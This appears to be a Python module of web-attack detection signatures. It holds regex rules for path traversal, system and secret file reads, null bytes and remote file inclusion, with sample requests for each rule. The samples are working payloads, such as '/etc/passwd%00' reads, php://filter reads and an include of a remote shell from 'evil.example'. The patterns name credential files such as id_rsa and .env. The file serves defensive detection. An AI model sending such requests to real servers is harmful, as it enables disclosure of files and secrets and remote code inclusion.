"""Files that are none of a client's business: by traversal, by inclusion, by name."""

from pipeline.signatures.signature import ARGS, PAYLOAD, Signature

FILES = (
    Signature(
        id="traversal-deep",
        family="traversal",
        title="Two or more steps up out of the folder",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1083"),
        where=("url", "path", "args", "header", "referer"),
        pattern=r"(?:\.{2,3}[;\x00]?[/\\]+(?:\.[/\\]+)*){2,}",
        positive=(
            "/get?file=../../etc/x",
            "/a/..%2f..%2f..%2fx",
            "/%252e%252e/%252e%252e/x",
            "/..%c0%af..%c0%afx",
            "/i?f=..\\..\\boot.ini",
            "/get?foo=.../.../x",
        ),
        negative=("/a/b/../c", "/a...b/...c"),
        references=("https://owasp.org/www-community/attacks/Path_Traversal",),
    ),
    Signature(
        id="traversal-step",
        family="traversal",
        title="A step up out of the folder, which browsers never send",
        severity="low",
        confidence="medium",
        techniques=("T1595.002", "T1083"),
        where=("url", "path", "args"),
        pattern=r"(?:^|[/\\=:&,])\.\.(?:[;\x00])?(?:[/\\]|$|&)|[/;=\\]\.\.;|[/\\]\.{2,}[/\\]",
        positive=("/a/../b", "/i?f=../x", "/%2e%2e/x", "/manager/..;/html"),
        negative=("/a..b", "/i?q=wait..", "/v1...v2"),
        false_positives="links that a program joined without making them plain; a revision range in a code browser",
    ),
    Signature(
        id="traversal-unix",
        family="traversal",
        title="A file of a UNIX system",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1083"),
        where=("url", *PAYLOAD),
        pattern=(
            r"/?\betc[/\\][/\\.]*(?:passwd|shadow|groups?|gshadow|hosts|hostname|issue|motd|fstab|mtab|"
            r"crontab|cron\.\w+|sudoers|ssh|ssl|profile|bash\.bashrc|environment|resolv\.conf|nginx|apache2?|"
            r"httpd|php\w*|mysql|my\.cnf|postgresql|redis|services|protocols|networks|subuid|subgid|security|"
            r"pam\.d|init\.d|rc\.\w+|redhat-release|os-release|lsb-release|master\.passwd|vsftpd|proftpd|"
            r"exports|inetd|syslog|hosts\.\w+|tomcat\w*|kubernetes)-?(?:[^\w-]|$)|/proc/(?:self|version|"
            r"cmdline|environ|mounts|net|cpuinfo|meminfo|sched_debug|\d+)\b|/var/(?:log|mail|spool|lib|www|"
            r"run|backups)/[\w.-]|/(?:usr|opt)/(?:local/)?(?:\w+/)*(?:httpd|nginx|php|my|server|"
            r"catalina)\.(?:conf|ini|cnf|xml|policy)|/root/\.\w|/home/[^/&]+/\.\w|\b(?:access|"
            r"error)[._-]log\b.*\.\./|>+\s*/(?:tmp|dev|var)/|/dev/(?:tcp|udp|shm|null|cmdb|random|urandom|"
            r"zero|mem|sd[a-z]|fd)\b|[=:]/(?:sys|root|boot|proc|dev)(?:$|&|/)|/sys/(?:class|kernel|block|bus|"
            r"dev|devices|firmware|fs|module|power|hypervisor)\b|/(?:usr/share|usr/lib|opt|srv|"
            r"mnt)/\w+/[^&]*\.\./"
        ),
        plain=True,
        positive=(
            "/i?f=/etc/passwd%00",
            "/%2fetc%2fpasswd",
            "/i?f=/proc/self/environ",
            "/i?f=/etc/./hosts",
            "/get?code=>/tmp/curl",
        ),
        negative=("/etchings/hosts", "/docs/etc/hosts-file", "/blog/proc/selfish", "/i?q=fetch+passwd"),
        false_positives="documentation that is published under such a path",
        references=("https://owasp.org/www-community/attacks/Path_Traversal",),
    ),
    Signature(
        id="traversal-windows",
        family="traversal",
        title="A file of a Windows system",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1083"),
        where=("url", *PAYLOAD),
        pattern=(
            r"\b(?:win|boot|system|desktop|php)\.ini\b|\b(?:windows|winnt)[/\\][/\\]*(?:win|system|php|"
            r"system32|repair|panther|debug|temp)\b|\b[a-z]:[/\\][/\\]*(?:windows|winnt|boot\.ini|inetpub|"
            r"users|program|xampp|wamp|apache)|\bsystem32[/\\]|[/\\]inetpub[/\\]|\bunattend\.xml\b|"
            r"\bweb\.config\b.*\.\.|\bglobal\.asax\b|[/\\]repair[/\\]sam\b|\bntuser\.dat\b"
        ),
        plain=True,
        positive=(
            "/i?f=c:\\windows\\win.ini",
            "/c:/win.ini",
            "/i?op=../../boot.ini%00",
            "/scripts/..%5c../winnt/system32/cmd.exe",
        ),
        negative=("/windows/install", "/i?q=c:/"),
    ),
    Signature(
        id="traversal-null",
        family="traversal",
        title="A null byte, which ends a file's name in C",
        severity="medium",
        confidence="high",
        techniques=("T1190", "T1083"),
        where=("line",),
        pattern=r"^(?:/|https?://).*(?:%(?:25)*00|\\x00|\\u0000)",
        positive=("/i?f=x.php%00.jpg", "/i?f=x%2500"),
        negative=("/i?f=100%25", "/i?p=%2e00", "Gh0st\\xad\\x00\\x00"),
    ),
    Signature(
        id="rfi-remote",
        family="rfi",
        title="A script on another server where a name belongs",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1105"),
        where=("args", "referer"),
        pattern=(
            r"=\s*(?:https?|ftps?|\\\\|//)[:/]*[^\s&?]*\.(?:php\d?|phtml|inc|asp|aspx|jsp|cgi|pl|sh|txt|dat|"
            r"gif|ico)\?*\s*(?:&|$)|=\s*(?:https?|ftps?)://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[/:]|"
            r"=\s*(?:https?|ftps?)://\[[0-9a-f:.]+\]|=\s*(?:\w+:)*(?:https?|ftps?|file|local_file|ldaps?|smb|"
            r"sftp|gopher|tftp|dict|ssh2?|jar|phar|zip|rar|ogg|glob|expect|php|data|zlib|svn|git|rsync|"
            r"telnet):[^&]*\?+(?:&|$)|=(?:file|ftps?|https?)\?+(?:&|$)|(?:include|require|_path|dir_?root|"
            r"root_dir|abs\w*path|basepath|includedir|mosconfig_\w+)\w*(?:\[\w*\])?=\s*(?:https?|ftps?):"
        ),
        positive=(
            "/i?page=http://evil.example/shell.txt?",
            "/i?p=http://203.0.113.5/x",
            "/i?mosConfig_absolute_path=http://x.example",
        ),
        negative=("/login?next=https://shop.example/cart", "/share?url=https://blog.example/2024/post"),
        false_positives="proxies for images and feeds that take the address as a parameter",
        references=("https://owasp.org/www-project-web-security-testing-guide/",),
    ),
    Signature(
        id="rfi-wrapper",
        family="rfi",
        title="A scheme that reads local files, archives or runs programs",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1083"),
        where=ARGS,
        pattern=(
            r"\b(?:php|phar|zip|expect|glob|ogg|rar|ssh2|zlib|compress\.(?:zlib|bzip2)|local_file|file|netdoc|"
            r"jar|dict|gopher|tftp|ldaps?|sftp|imap|pop3|smtp|irc|ircs|jdbc|rmi|view-source)://|\bjar:(?:file|"
            r"https?):|\bphp://(?:input|filter|memory|temp|fd)|\bfile:/|\bdata:[\w/+-]*(?:;[\w=-]+)*,|"
            r"=\s*data:\w+/\w+"
        ),
        plain=True,
        positive=(
            "/i?f=php://filter/convert.base64-encode/resource=x",
            "/i?x=url:file:///etc/passwd",
            "/i?x=jar:file:/a.jar!/b",
            "/i?f=compress.zlib://x",
        ),
        negative=("/i?u=https://a.example", "/i?q=profile://x"),
    ),
    Signature(
        id="traversal-secret",
        family="traversal",
        title="A file with secrets named in a parameter",
        severity="medium",
        confidence="medium",
        techniques=("T1190", "T1083"),
        where=("args", "header"),
        pattern=(
            r"[=/\\](?:\.(?:env|htaccess|htpasswd|htdigest|git|svn|hg|ssh|aws|azure|docker|kube|bash_history|"
            r"bash_profile|bash_logout|bashrc|profile|zshrc|zsh_history|mysql_history|psql_history|netrc|"
            r"npmrc|pypirc|pgpass|my\.cnf|gnupg|vimrc|viminfo|subversion|dockerignore|gitconfig|gitignore|"
            r"config|cache|cshrc|login|logout|kshrc|forward|rhosts|history|nano_history|python_history|"
            r"rediscli_history|idea|vscode|claude|cursor|codex|gemini|aider|continue|copilot|windsurf|mcp)\b|"
            r"wp-config\.|config\.(?:php|inc|ini|yml|yaml)\b|configuration\.php|settings\.(?:php|py)\b|"
            r"localsettings\.php|web\.config|global\.asa|web-inf|meta-inf|id_(?:rsa|dsa|ecdsa|ed25519)\b|"
            r"authorized_keys|known_hosts|credentials\.\w+|database\.yml|secrets\.yml|composer\.(?:json|lock)|"
            r"package(?:-lock)?\.json|docker-compose\.ya?ml|dockerfile|makefile|gruntfile\.js|gulpfile\.js|"
            r"gemfile|pom\.xml|build\.(?:xml|gradle)|error_?log|access_?log|php_?errors?\.log|backup\.(?:zip|"
            r"sql|tar|gz|bak)|dump\.sql|db\.sql|database\.sql|claude\.md|agents\.md|mcp\.json)|\.sql\.(?:zip|"
            r"gz|bak|tar|7z|rar|bz2)\b|\.(?:php|asp|aspx|jsp)(?:~|\.bak|\.old|\.swp|\.orig)(?:$|&)"
        ),
        plain=True,
        positive=("/?f=.htaccess", "/?page=wp-config.php", "/?code=backup.sql.zip", "/?f=config.php"),
        negative=("/?f=a.txt", "/?q=environment"),
        false_positives="tools for developers that name such files",
    ),
    Signature(
        id="rfi-url",
        family="rfi",
        title="A whole URL where the name of a file or page belongs",
        severity="low",
        confidence="low",
        techniques=("T1190",),
        where=("args",),
        pattern=(
            r"(?:^|&)(?:[a-pr-tv-z]|\w*(?:file|path|page|dir|folder|root|inc|include|template|tpl|theme|skin|"
            r"style|module|mod|conf|config|load|read|content|doc|document|layout|name|sql|var|arg|cmd|option|"
            r"lang|locale))(?:\[\w*\])?=\s*(?:[\w:]*:)?(?:https?|ftps?|sftp|smb|file|ldap|gopher|local_file|"
            r"ssh|webdav|svn|git|//|\\\\)[:/\\]{1,3}[\w\[]"
        ),
        positive=("/?x=https://evil.example/", "/?file=ftp://x.example/a"),
        negative=("/?url=https://a.example/", "/?q=http://x"),
        false_positives="applications that take addresses as parameters of such names",
    ),
)
